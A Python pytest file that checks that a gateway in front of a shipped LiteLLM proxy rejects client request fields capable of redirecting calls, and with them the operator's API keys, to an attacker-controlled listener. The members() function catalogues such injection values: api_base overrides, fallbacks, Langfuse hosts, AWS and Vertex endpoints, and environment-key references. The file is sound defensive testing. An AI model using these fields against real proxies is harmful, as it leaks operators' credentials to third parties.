"""A real LiteLLM proxy under the configuration that ships (deploy/litellm/config.yaml): no client sends it, or the operator's keys, elsewhere."""

import json
import socket
import threading
import uuid
from pathlib import Path
from urllib.parse import urlencode

import pytest
from processes import DEADLINE, Answer, LiteLLMProxy
from provider import completion

CONFIGURATION = Path(__file__).resolve().parents[2] / "deploy" / "litellm" / "config.yaml"
FORM = "application/x-www-form-urlencoded"


class Attacker:
    """Counts who connects to a port of its own, keeps what they say, and never answers well."""

    def __init__(self):
        self.heard = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._socket.getsockname()[1]}"
        self.url = f"http://{self.address}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self):
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                self.heard.append(connection.recv(65536))
                connection.sendall(b"HTTP/1.1 400 No\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")

    def close(self):
        self._socket.close()


@pytest.fixture
def attacker():
    attacker = Attacker()
    yield attacker
    attacker.close()


@pytest.fixture(scope="module")
def operator_key():
    return f"sk-operator-{uuid.uuid4().hex}"


@pytest.fixture(scope="module")
def shipped(provider, tmp_path_factory, operator_key):
    """The proxy as it ships; its operator has a key at the scripted provider, and Langfuse keys."""
    environment = {
        "OPENAI_API_KEY": operator_key,
        "OPENAI_BASE_URL": provider.base_url,
        "LANGFUSE_PUBLIC_KEY": "pk-lf-operator",
        "LANGFUSE_SECRET_KEY": "sk-lf-operator",
        "LANGFUSE_OTEL_HOST": "http://127.0.0.1:1",
    }
    proxy = LiteLLMProxy.of_file(tmp_path_factory.mktemp("shipped"), CONFIGURATION, environment)
    yield proxy
    proxy.terminate()


@pytest.fixture(scope="module")
def guarded(start_gateway, shipped):
    return start_gateway(LITELLM_URL=shipped.url, LITELLM_API_KEY=shipped.master_key, UPSTREAM_ATTEMPTS="1")


def multipart(fields):
    parts = [f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n' for name, value in fields.items()]
    parts.append('--b\r\nContent-Disposition: form-data; name="file"; filename="a.wav"\r\n\r\nRIFF\r\n--b--\r\n')
    return "".join(parts).encode(), {"Content-Type": "multipart/form-data; boundary=b"}


def members(url):
    """Members that lead a call, its keys or its traces to `url`, by what they are named in the test."""
    target = {"model": "openai/gpt-4o", "api_base": url}
    return {
        "api_base": {"api_base": url},
        "base_url": {"base_url": url},
        "fallback objects": {"fallbacks": [target]},
        "fallbacks of an unknown model": {"model": "openai/none", "fallbacks": [target], "num_retries": 3},
        "context window fallbacks": {"context_window_fallbacks": [{"gpt-4o": [target]}]},
        "router settings": {"router_settings_override": {"fallbacks": [target], "num_retries": 5}},
        "user config": {"user_config": {"model_list": [{"model_name": "gpt-4o", "litellm_params": target}]}},
        "model list": {"model_list": [{"model_name": "gpt-4o", "litellm_params": target}]},
        "extra body": {"extra_body": {"api_base": url, "base_url": url}},
        "litellm params": {"litellm_params": {"api_base": url, "metadata": {"langfuse_host": url}}},
        "langfuse": {"langfuse_host": url, "langfuse_public_key": "pk", "langfuse_secret_key": "sk"},
        "langfuse in metadata": {"metadata": {"langfuse_host": url}},
        "langfuse in metadata as text": {"metadata": json.dumps({"langfuse_host": url})},
        "litellm metadata": {"litellm_metadata": {"langfuse_host": url, "api_base": url}},
        "aws": {"model": "bedrock/x", "aws_bedrock_runtime_endpoint": url},
        "aws token service": {"model": "bedrock/x", "aws_sts_endpoint": url, "aws_role_name": "r"},
        "vertex": {"model": "vertex_ai/x", "vertex_credentials": json.dumps({"token_uri": url})},
        "azure": {"model": "azure/x", "api_base": url, "azure_ad_token": "oidc/env/OPENAI_API_KEY"},
        "another provider": {"custom_llm_provider": "hosted_vllm", "api_base": url},
        "a model that is a URL": {"model": f"huggingface/{url}/x"},
        "a key of the environment": {"api_key": "os.environ/OPENAI_API_KEY"},
        "headers": {"extra_headers": {"host": "evil"}, "headers": {"x": "y"}},
        "observability": {"langsmith_base_url": url, "posthog_host": url, "slack_webhook_url": url},
    }


NAMES = sorted(members(""))


def post(gateway, path, body, headers=None):
    return gateway.request("POST", path, body, headers or {}, key=None)


def refused(answer):
    assert answer.status == 400, answer.body
    assert answer.json["error"]["code"] == "forbidden_member", answer.body


@pytest.mark.parametrize("name", NAMES)
def test_no_member_leads_a_call_elsewhere(guarded, attacker, provider, operator_key, name):
    question = {"model": "openai/gpt-4o", "messages": [{"role": "user", "content": "x"}]}
    fields = {"model": "openai/whisper-1", **members(attacker.url)[name]}
    texts = {key: value if isinstance(value, str) else json.dumps(value) for key, value in fields.items()}
    before = len(provider.calls)
    refused(post(guarded, "/v1/chat/completions", json.dumps({**question, **members(attacker.url)[name]}).encode()))
    refused(post(guarded, "/v1/embeddings", json.dumps({"input": "x", **fields}).encode(), {"Content-Type": "text/plain"}))
    refused(post(guarded, "/v1/embeddings", urlencode({"input": "x", **texts}).encode(), {"Content-Type": FORM}))
    refused(post(guarded, "/v1/audio/transcriptions", *multipart(texts)))
    assert attacker.heard == []
    assert len(provider.calls) == before


def test_without_the_gateway_the_proxy_would_send_its_key(shipped, attacker, operator_key):
    """So that the tests above can fail."""
    import http.client

    connection = http.client.HTTPConnection("127.0.0.1", shipped.port, timeout=DEADLINE)
    body, headers = multipart({"model": "openai/whisper-1", "api_base": f"{attacker.url}/v1"})
    connection.request("POST", "/v1/audio/transcriptions", body, {**headers, "Authorization": f"Bearer {shipped.master_key}"})
    response = connection.getresponse()
    Answer(response.status, {}, response.read())
    assert any(operator_key.encode() in heard for heard in attacker.heard)


@pytest.mark.parametrize("key", ["client-key", None])
def test_who_has_a_key_pays_for_a_form(guarded, provider, operator_key, key):
    async def transcribes(call):
        await call.respond({"text": "hello"})

    with provider.other_paths(transcribes):
        before = len(provider.calls)
        body, headers = multipart({"model": "openai/whisper-1"})
        answer = guarded.request("POST", "/v1/audio/transcriptions", body, headers, key=key)
        assert answer.status == 200, answer.body
        [call] = provider.calls[before:]
    assert call.header("authorization") == f"Bearer {key or operator_key}"


def test_a_failure_is_one_call(guarded, provider):
    calls = []

    async def fails(call):
        calls.append(call)
        await call.respond({"error": {"message": "scripted"}}, status=500)

    model = provider.script(fails)
    body = json.dumps({"model": f"openai/{model}", "messages": [{"role": "user", "content": "x"}], "top_k": 4, "metadata": {"dataset": "d"}})
    assert guarded.request("POST", "/v1/chat/completions", body.encode()).status == 500
    assert len(calls) == 1


def test_plain_parameters_pass(guarded, provider):
    async def answers(call):
        await call.respond(completion("yes"))

    model = provider.script(answers)
    body = json.dumps({"model": f"openai/{model}", "messages": [{"role": "user", "content": "x"}], "temperature": 0, "min_p": 0.1, "user": "u"})
    assert guarded.request("POST", "/v1/chat/completions", body.encode()).status == 200
